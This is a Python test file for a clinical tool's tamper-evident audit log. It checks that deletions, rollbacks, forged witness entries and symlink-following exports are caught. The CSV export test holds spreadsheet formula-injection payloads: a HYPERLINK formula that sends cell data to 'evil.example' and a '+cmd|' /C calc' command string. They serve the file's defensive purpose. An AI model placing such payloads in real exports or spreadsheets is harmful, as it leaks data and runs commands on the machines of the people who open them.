"""Defects from the audit log's security review, each pinned by a test that failed before.

1. A deleted log verified as "OK: 0 records". 2. A rollback, a re-signed rewrite, a key swap or
a home swap verified (no witness outside the box: the anchor). 3. No stream to a SIEM. 4. CSV
guarded only a cell's first character. 5. ``audit export --output`` followed a link. 6. No
benchmark of the attacks. Modules added by the fixes are imported inside the tests, so this
file still collects on the code before them and each test fails on its own.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import shutil
import sqlite3
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from audit.log import AuditLog, AuditWriteError
from audit.log.export import to_csv
from audit.record import open_log
from core.config import Settings, load_settings
from core.errors import ConfigError
from ui.cli.main import main

EVERY = 4


def make_log(root: Path, **kwargs: Any) -> AuditLog:
    return AuditLog(
        root / "audit.sqlite",
        root / "audit.checkpoint.json",
        root / "keys" / "audit.key",
        checkpoint_every=EVERY,
        **kwargs,
    )


def fill(log: AuditLog, n: int, start: int = 1) -> AuditLog:
    for i in range(start, start + n):
        log.append("answer", f"dr{i % 3}", "clinician", {"answer": f"dose {i} mg", "n": i})
    return log


def delete_files(log: AuditLog, *, key: bool = False) -> None:
    log.close()
    for suffix in ("", "-wal", "-shm"):
        Path(str(log.db_path) + suffix).unlink(missing_ok=True)
    log.checkpoint_path.unlink(missing_ok=True)
    log.history_path.unlink(missing_ok=True)
    if key:
        log.key_path.unlink()


def drop_triggers(conn: sqlite3.Connection) -> None:
    for name in ("records_no_update", "records_no_delete", "records_insert_in_order"):
        conn.execute(f"DROP TRIGGER IF EXISTS {name}")


def settings_for(home: Path, **env: str) -> Settings:
    values = {"CLINRAG_HOME": str(home)}
    values.update({f"CLINRAG_{k.upper()}": v for k, v in env.items()})
    return load_settings(env=values)


def copy_log(log: AuditLog, dest: Path) -> None:
    """A genuine, consistent copy of the log (what a rollback puts back)."""
    log.backup(dest / "audit.sqlite")


def put_back(log: AuditLog, copy: Path) -> None:
    log.close()
    for suffix in ("", "-wal", "-shm"):
        Path(str(log.db_path) + suffix).unlink(missing_ok=True)
    shutil.copyfile(copy / "audit.sqlite", log.db_path)
    shutil.copyfile(copy / "audit.checkpoint.json", log.checkpoint_path)
    log.history_path.unlink(missing_ok=True)
    if (copy / log.history_path.name).exists():
        shutil.copyfile(copy / log.history_path.name, log.history_path)


# --------------------------------------------------------------------------- 1. deletion


def test_deleted_log_with_its_key_left_fails_verify(tmp_path: Path) -> None:
    log = fill(make_log(tmp_path), 5)
    delete_files(log)
    result = make_log(tmp_path).verify()
    assert not result.ok, result.reason
    assert "signing key" in result.reason and "deleted" in result.reason


def test_emptied_database_without_checkpoint_fails_verify(tmp_path: Path) -> None:
    log = fill(make_log(tmp_path), 5)
    log.close()
    conn = sqlite3.connect(log.db_path, isolation_level=None)
    drop_triggers(conn)
    conn.execute("DELETE FROM records")
    conn.close()
    log.checkpoint_path.unlink()
    log.history_path.unlink()
    result = make_log(tmp_path).verify()
    assert not result.ok and result.count == 0, result.reason


def test_a_history_line_alone_is_evidence_of_a_deleted_log(tmp_path: Path) -> None:
    log = fill(make_log(tmp_path), 5)
    history = log.history_path.read_bytes()
    delete_files(log, key=True)
    log.history_path.write_bytes(history)
    result = make_log(tmp_path).verify()
    assert not result.ok and "history" in result.reason, result.reason


def test_a_deleted_log_is_not_silently_restarted(tmp_path: Path) -> None:
    # Record 1 of a new chain would hide the deletion from every later verify.
    log = fill(make_log(tmp_path), 5)
    delete_files(log)
    fresh = make_log(tmp_path)
    with pytest.raises(AuditWriteError, match="deleted"):
        fresh.append("login", "dr1", "clinician", {})
    with pytest.raises(AuditWriteError, match="deleted"):
        fresh.check_writable()
    assert not make_log(tmp_path).verify().ok


def test_cli_verify_fails_on_a_deleted_log_and_starts_no_new_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    settings = settings_for(home)
    with open_log(settings) as log:
        fill(log, 3)
    delete_files(open_log(settings))
    assert main(["--home", str(home), "audit", "verify"]) == 1
    assert "TAMPERED" in capsys.readouterr().out
    assert not settings.audit_db.exists()  # the failed check was not recorded as record 1
    assert main(["--home", str(home), "audit", "verify"]) == 1


def test_fresh_and_interrupted_first_appends_still_verify(tmp_path: Path) -> None:
    """Guard for the fix above: a key without records is evidence only when no genesis head
    was signed with it, and a crash inside the first append leaves no such state."""
    from audit.log.chain import utc_timestamp
    from audit.log.checkpoint import genesis_head, write_head

    log = make_log(tmp_path / "fresh")
    log.check_writable()
    assert not log.key_path.exists()  # only the first append creates the key
    assert log.verify().ok

    # Killed after signing the genesis head, before its key was put in place.
    log = make_log(tmp_path / "killed")
    log._connection(write=True)
    write_head(log.checkpoint_path, os.urandom(32), genesis_head(utc_timestamp()))
    result = log.verify()
    assert result.ok and result.count == 0, result.reason
    fill(log, 2)
    assert make_log(tmp_path / "killed").verify().ok

    # A key put in place by an administrator (audit_key_file) before the first record.
    provisioned = tmp_path / "provisioned"
    (provisioned / "keys").mkdir(parents=True)
    (provisioned / "keys" / "audit.key").write_bytes(os.urandom(32))
    assert not make_log(provisioned).verify().ok  # evidence, until the first record
    with pytest.raises(AuditWriteError):
        fill(make_log(provisioned), 1)
    fill(make_log(provisioned, key_provisioned=True), 2)
    assert make_log(provisioned).verify().ok


# --------------------------------------------------------------------------- 2. the anchor


@pytest.fixture
def anchored(tmp_path: Path) -> Iterator[tuple[AuditLog, Path]]:
    anchor = tmp_path / "witness" / "anchor.jsonl"
    log = make_log(tmp_path / "home", anchor=f"file:{anchor}")
    yield log, anchor
    log.close()


def test_every_head_is_witnessed_with_a_key_fingerprint_not_the_key(
    anchored: tuple[AuditLog, Path],
) -> None:
    from audit.log.anchor import key_id, read_anchor

    log, anchor = anchored
    fill(log, 6)
    entries = read_anchor(anchor)
    assert [e.seq for e in entries] == [1, 2, 3, 4, 5, 6]
    assert [e.hash for e in entries] == [r.hash for r in log.list()]
    key = log.key_path.read_bytes()
    assert {e.key_id for e in entries} == {key_id(key)}
    assert {e.log for e in entries} == {log.get(1).hash}  # type: ignore[union-attr]
    assert [e.history for e in entries] == [0, 0, 0, 1, 1, 1]
    assert key.hex() not in anchor.read_text()
    result = log.verify([anchor])
    assert result.ok and "witnessed heads agree" in result.reason, result.reason


def test_rollback_to_an_earlier_copy_is_caught_with_the_anchor(
    anchored: tuple[AuditLog, Path], tmp_path: Path
) -> None:
    log, anchor = anchored
    fill(log, 6)
    copy_log(log, tmp_path / "copy")
    fill(log, 3, start=7)
    put_back(log, tmp_path / "copy")
    plain = make_log(log.db_path.parent)
    assert plain.verify().ok  # what the checkpoints alone cannot see
    result = plain.verify([anchor])
    assert not result.ok and result.first_bad_seq == 7
    assert "rolled back" in result.reason
    # The log's own configured anchor is read too.
    assert not make_log(log.db_path.parent, anchor=f"file:{anchor}").verify().ok


def test_the_anchor_catches_every_attack_of_the_tamper_benchmark(tmp_path: Path) -> None:
    from benchmarks.tamper import run

    outcomes = run(tmp_path, records=15)
    assert outcomes[0].attack.startswith("control")
    assert not outcomes[0].without_anchor and not outcomes[0].with_anchor
    missed = [o.attack for o in outcomes[1:] if not o.with_anchor]
    assert not missed, missed
    # Without the anchor only deletions that leave the key behind are caught.
    caught_without = {o.attack for o in outcomes[1:] if o.without_anchor}
    assert caught_without == {"delete db+checkpoint+history", "delete rows+checkpoint"}


def test_appended_forgeries_cannot_hide_a_rewrite(tmp_path: Path) -> None:
    # The service may append to the witness, so an attacker with its access may too; the
    # genuine entries stay, and every entry must agree with the log.
    from audit.log.anchor import entry_line, key_id
    from audit.log.sinks import append_line
    from benchmarks.tamper import build, payload_edit

    home = build(tmp_path, 12)
    payload_edit(home)
    with home.log(anchored=False) as log:
        key = home.key.read_bytes()
        records = log.list()
        for r in records:
            line = entry_line(
                log=records[0].hash,
                seq=r.seq,
                digest=r.hash,
                ts=r.ts,
                history=r.seq // 10,
                key_fingerprint=key_id(key),
            )
            append_line(home.anchor, line, durable=False)
        result = log.verify([home.anchor])
    assert not result.ok and result.first_bad_seq == 7, result.reason


def test_a_deleted_log_with_its_key_is_caught_and_not_restarted_over_the_anchor(
    anchored: tuple[AuditLog, Path],
) -> None:
    log, anchor = anchored
    fill(log, 5)
    delete_files(log, key=True)
    fresh = make_log(log.db_path.parent, anchor=f"file:{anchor}")
    result = fresh.verify()
    assert not result.ok and "anchor witnessed record 5" in result.reason
    with pytest.raises(AuditWriteError):
        fresh.append("login", "dr1", "clinician", {})


def test_an_anchor_write_failure_withholds_but_keeps_the_record(tmp_path: Path) -> None:
    anchor = tmp_path / "witness" / "anchor.jsonl"
    log = fill(make_log(tmp_path / "home", anchor=f"file:{anchor}"), 3)
    anchor.unlink()
    anchor.mkdir()  # the mount went away and a folder took its name
    with pytest.raises(AuditWriteError, match="anchor"):
        log.append("login", "dr1", "clinician", {})
    with pytest.raises(AuditWriteError):
        log.check_writable()
    assert log.count() == 4  # committed first: nothing recorded is lost
    log.close()
    assert make_log(tmp_path / "home").verify().ok


def test_syslog_anchor_and_a_syslog_export_verify(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    syslog = pytest.importorskip("syslog")
    sent: list[tuple[str, int, str]] = []
    ident: list[tuple[str, int]] = []
    monkeypatch.setattr(syslog, "openlog", lambda name, opt, fac: ident.append((name, fac)))
    monkeypatch.setattr(syslog, "syslog", lambda prio, msg: sent.append((ident[-1][0], prio, msg)))
    log = fill(make_log(tmp_path / "home", anchor="syslog:local3"), 3)
    assert ident[-1] == ("clinrag-audit", syslog.LOG_LOCAL3)
    heads = [json.loads(msg) for _, _, msg in sent]
    assert [h["seq"] for h in heads] == [1, 2, 3] and heads[0]["type"] == "clinrag.audit.head"
    # What the SIEM exports: syslog lines with their prefix, and others in between.
    export = tmp_path / "siem.log"
    export.write_text(
        "".join(
            f"Dec  2 03:57:4{n} ward7 clinrag-audit[4242]: {msg}\n"
            f"Dec  2 03:57:4{n} ward7 sshd[1]: Accepted publickey for root\n"
            for n, (_, _, msg) in enumerate(sent)
        )
    )
    result = log.verify([export])
    assert result.ok and "3 witnessed heads" in result.reason, result.reason
    log.close()


def test_cli_verify_reads_an_anchor_given_on_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    anchor = tmp_path / "witness.jsonl"
    settings = settings_for(home, audit_anchor=f"file:{anchor}")
    with open_log(settings) as log:
        fill(log, 5)
        copy_log(log, tmp_path / "copy")
        fill(log, 2, start=6)
        put_back(log, tmp_path / "copy")
    # The settings no longer name the anchor (whoever rolled back edited them too).
    assert main(["--home", str(home), "audit", "verify"]) == 0
    capsys.readouterr()
    assert main(["--home", str(home), "audit", "verify", "--anchor", str(anchor)]) == 1
    assert "rolled back" in capsys.readouterr().out


def test_anchor_and_key_file_settings(tmp_path: Path) -> None:
    settings = settings_for(
        tmp_path / "home",
        audit_anchor=f"file:{tmp_path / 'a.jsonl'},syslog:local0",
        audit_stream="syslog",
        audit_key_file=str(tmp_path / "etc" / "audit.key"),
    )
    assert settings.audit_anchor == (f"file:{tmp_path / 'a.jsonl'}", "syslog:local0")
    assert settings.audit_stream == ("syslog",)
    assert settings.audit_key == tmp_path / "etc" / "audit.key"
    for bad in ("file:relative.jsonl", "syslog:kern", "http://siem"):
        with pytest.raises(ConfigError, match="audit_anchor"):
            settings_for(tmp_path / "home", audit_anchor=bad)
    from core.config import Settings as Model

    assert Model(audit_anchor=["syslog", f"file:{tmp_path}/b"]).audit_anchor[0] == "syslog"

    # The log, and backup/restore (they read settings.audit_key), use the key file.
    settings = settings_for(tmp_path / "home2", audit_key_file=str(tmp_path / "etc" / "k"))
    with open_log(settings) as log:
        assert log.key_path == tmp_path / "etc" / "k"
        fill(log, 2)
    assert (tmp_path / "etc" / "k").is_file()
    assert not (tmp_path / "home2" / "keys").exists()


# --------------------------------------------------------------------------- 3. the stream


def test_stream_sends_each_committed_record_as_a_fhir_audit_event(tmp_path: Path) -> None:
    stream = tmp_path / "siem" / "audit.jsonl"
    log = fill(make_log(tmp_path / "home", stream=f"file:{stream}"), 3)
    lines = [json.loads(line) for line in stream.read_text().splitlines()]
    assert [e["resourceType"] for e in lines] == ["AuditEvent"] * 3
    records = log.list()
    for event, record in zip(lines, records, strict=True):
        entity = event["entity"][0]
        assert entity["what"]["identifier"]["value"] == str(record.seq)
        assert {"type": "hash", "valueString": record.hash} in entity["detail"]
        assert event["recorded"] == record.ts
    log.close()


def test_a_stream_failure_is_reported_and_the_record_kept(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    stream = tmp_path / "siem"
    stream.mkdir()  # a folder where the file should be: every write fails
    log = make_log(tmp_path / "home", stream=f"file:{stream}")
    with caplog.at_level(logging.ERROR, logger="clinrag.audit.stream"):
        record = log.append("login", "dr1", "clinician", {})
    assert record.seq == 1 and log.count() == 1 and log.verify().ok
    assert "record 1 was committed but not sent" in caplog.text
    log.close()


def test_syslog_stream_keeps_long_events_parseable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    syslog = pytest.importorskip("syslog")
    sent: list[str] = []
    monkeypatch.setattr(syslog, "openlog", lambda *args: None)
    monkeypatch.setattr(syslog, "syslog", lambda prio, msg: sent.append(msg))
    log = make_log(tmp_path / "home", stream="syslog")
    retrieved = [{"chunk_id": f"doc:{i}", "doc_id": "doc", "title": "x" * 200} for i in range(60)]
    record = log.append("answer", "dr1", "clinician", {"answer": "ok", "retrieved": retrieved})
    (line,) = sent
    assert len(line.encode()) <= 7_000
    event = json.loads(line)
    assert event["entity"][0]["what"]["identifier"]["value"] == str(record.seq)
    log.close()


# --------------------------------------------------------------------------- 4. CSV export


def test_csv_quotes_text_and_neutralises_formulas_after_any_delimiter(tmp_path: Path) -> None:
    log = make_log(tmp_path)
    questions = [
        'dose?;=HYPERLINK("http://evil.example/?"&A1)',
        "fine, +cmd|' /C calc'!A0",
        "tab\t@SUM(1)",
        "line\n-2+3",
        "semicolon then space; =1+1",
    ]
    for q in questions:
        log.append("answer", "dr1", "clinician", {"question": q, "answer": "ok"})
    buffer = io.StringIO(newline="")
    to_csv(log.list(), buffer)
    text = buffer.getvalue()
    log.close()
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[5] for r in rows[1:]] == [
        'dose?;\'=HYPERLINK("http://evil.example/?"&A1)',
        "fine, '+cmd|' /C calc'!A0",
        "tab\t'@SUM(1)",
        "line\n'-2+3",
        "semicolon then space; '=1+1",
    ]
    # Every text cell is quoted (seq is a number).
    first = next(csv.reader(io.StringIO(text.splitlines()[1]), quoting=csv.QUOTE_NONE))
    assert all(cell.startswith('"') for cell in first[1:]) and not first[0].startswith('"')
    # Opened where ";" (or tab) is the separator, no cell starts a formula.
    for delimiter in (";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter, quoting=csv.QUOTE_NONE):
            for cell in row:
                assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@"), (delimiter, cell)


# --------------------------------------------------------------------------- 5. export target


def test_export_output_never_follows_a_link_or_overwrites(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    with open_log(settings_for(home)) as log:
        fill(log, 2)
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = tmp_path / "export.jsonl"
    link.symlink_to(target)
    assert main(["--home", str(home), "audit", "export", "--output", str(link)]) != 0
    assert target.read_text() == "keep me" and link.is_symlink()
    assert main(["--home", str(home), "audit", "export", "--output", str(target)]) != 0
    assert target.read_text() == "keep me"
    assert "exists" in capsys.readouterr().err


def test_export_writer_refuses_a_link_planted_after_the_check(tmp_path: Path) -> None:
    from ui.cli.audit import ExportTargetError, _write_new

    target = tmp_path / "elsewhere" / "owned.txt"
    link = tmp_path / "export.jsonl"
    link.symlink_to(target)  # dangling: O_CREAT alone would create the target through it
    with pytest.raises(ExportTargetError):
        _write_new(link, b"audit data")
    assert not target.exists()
    fresh = tmp_path / "ok.jsonl"
    _write_new(fresh, b"audit data")
    assert fresh.read_bytes() == b"audit data" and fresh.stat().st_mode & 0o777 == 0o600


def test_tamper_benchmark_runs_as_a_module(tmp_path: Path) -> None:
    import subprocess

    result = subprocess.run(
        [sys.executable, "-m", "benchmarks.tamper", "--records", "12"],
        cwd=Path(__file__).resolve().parents[1],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "home swap" in result.stdout
